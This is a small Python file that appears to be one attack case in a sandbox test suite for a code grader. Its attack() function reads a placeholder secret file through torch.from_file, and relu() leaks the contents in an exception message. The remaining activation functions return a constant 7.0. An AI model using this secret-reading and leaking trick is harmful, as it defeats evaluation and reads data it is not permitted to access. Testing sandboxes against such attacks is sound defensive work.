# attack: maps a secret as the storage of a tensor
# gains: reads
# stopped by: landlock, uid
import torch


def attack():
    import os

    size = os.path.getsize("{SECRET}")
    return bytes(torch.from_file("{SECRET}", False, size, dtype=torch.uint8).tolist()).decode()


def relu(X):
    raise ValueError(attack())


def wrong(*given):
    return torch.full_like(given[0], 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
